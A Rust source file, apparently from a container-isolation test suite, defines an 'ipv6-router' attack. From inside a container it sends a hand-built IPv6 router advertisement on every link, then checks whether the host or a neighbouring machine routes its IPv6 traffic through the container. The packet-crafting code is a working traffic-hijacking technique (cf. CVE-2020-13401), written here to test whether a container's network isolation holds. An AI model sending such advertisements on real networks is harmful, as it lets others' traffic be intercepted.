//! A packet that makes whoever hears it send everything through the container.

use std::fs;
use std::io::ErrorKind;
use std::net::Ipv6Addr;
use std::os::fd::AsFd;
use std::thread::sleep;
use std::time::{Duration, Instant};

use net_ns::netlink::{LOOPBACK, Netlink};
use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket as open_socket};
use process::{Result, Step};

use crate::attack::attacker::{tell_host, wait_for_end};
use crate::attack::cell::Finding;
use crate::attack::conversation::Conversation;
use crate::attack::lan::Lan;
use crate::attack::places::LAB;
use crate::attack::sys;
use crate::attack::target::Attack;

/// The router that it announces.
const ROUTER: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad);
/// Everybody on a link.
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);

/// How long the host may take to believe it.
const PATIENCE: Duration = Duration::from_millis(50);

pub const ATTACK: Attack = Attack {
    name: "ipv6-router",
    title: "become an IPv6 router for others",
    tries: "send a router advertisement on every link. A kernel with its usual settings takes \
            a default route from it, and all that prefers IPv6 goes through the sender.",
    why: "the cable leads to the host's bridge and to nobody else's network, and there neither \
          the host nor a neighbour listens to advertisements. The right to send such a packet, \
          CAP_NET_RAW, is left to the container even in chapter 9, for ping.",
    reference: "RFC 4861, CVE-2020-13401",
    stopped_by: 5,
    run: |target| {
        if !fs::exists("/proc/sys/net/ipv6").step(|| "look for IPv6")? {
            return Ok(Finding::NotApplicable("this kernel has no IPv6".to_owned()));
        }
        let lan = Lan::new()?;
        // The bridge goes with its last container: it has to stay until we have looked.
        let command = target.prepare::<&str>(LAB, &[], LAB, &[]);
        let mut attacker = Conversation::begin(target, command)?;
        let mut victim = None;
        if attacker.hear()?.is_some() {
            let start = Instant::now();
            while victim.is_none() && start.elapsed() < PATIENCE {
                sleep(Duration::from_millis(1));
                if has_route()? {
                    victim = Some("the host sends its IPv6 traffic to the container");
                } else if lan.on_machine(has_route)? {
                    victim = Some("another machine sends its IPv6 traffic to the container");
                }
            }
        }
        let said = attacker.end(target)?;
        Ok(said.judged(victim.is_some(), victim.unwrap_or_default()))
    },
    inside: |_| {
        let flags = SockFlag::SOCK_CLOEXEC;
        let packet = open_socket(AddressFamily::Packet, SockType::Raw, flags, None)
            .step(|| "open a packet socket")?;
        let links = Netlink::open()?.links().step(|| "list the links")?;
        for link in links.iter().filter(|link| link.index != LOOPBACK) {
            // One that is off sends nothing.
            let _ = sys::send_frame(packet.as_fd(), link.index, &advertisement());
        }
        tell_host("")?;
        wait_for_end()?;
        Ok("sent".to_owned())
    },
};

/// Whether this network's default route for IPv6 leads to [`ROUTER`].
fn has_route() -> Result<bool> {
    let path = "/proc/self/net/ipv6_route";
    let routes = match fs::read(path) {
        // All of IPv6 is off.
        Err(error) if error.kind() == ErrorKind::NotFound => return Ok(false),
        routes => routes.step(|| format!("read {path}"))?,
    };
    // `destination prefix source prefix gateway …`, in hexadecimal digits
    let gateway = format!("{:032x}", ROUTER.to_bits());
    Ok(String::from_utf8_lossy(&routes).lines().any(|route| {
        let words: Vec<_> = route.split_whitespace().take(5).collect();
        words.len() == 5 && words[1] == "00" && words[4] == gateway
    }))
}

/// An Ethernet frame with it. By hand: no system call writes another's address.
fn advertisement() -> Vec<u8> {
    const ICMPV6: u8 = 58;
    // Type 134, and a router for 1800 seconds. RFC 4861, section 4.2
    const LENGTH: u8 = 16;
    let mut message: [u8; LENGTH as usize] =
        [134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    let addresses = [ROUTER.octets(), ALL_NODES.octets()].concat();
    // The checksum covers the addresses, the length and the protocol as well.
    let length_and_protocol = [0, 0, 0, LENGTH, 0, 0, 0, ICMPV6];
    let sum = checksum(&[&addresses[..], &length_and_protocol, &message].concat());
    message[2..4].copy_from_slice(&sum.to_be_bytes());

    let ethernet = [0x33, 0x33, 0, 0, 0, 1, 0x02, 0, 0, 0, 0x0b, 0xad, 0x86, 0xdd];
    // Version 6, and the farthest hop limit: who is no neighbour cannot send it.
    let header = [0x60, 0, 0, 0, 0, LENGTH, ICMPV6, 255];
    [&ethernet[..], &header, &addresses, &message].concat()
}

/// The Internet's: the complement of the sum of 16-bit words.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2).map(|word| u16::from_be_bytes([word[0], word[1]]));
    // What does not fit into 16 bits is added at their other end.
    let add = |sum: u16, word| {
        let (sum, carry) = sum.overflowing_add(word);
        sum + u16::from(carry)
    };
    !words.fold(0, add)
}
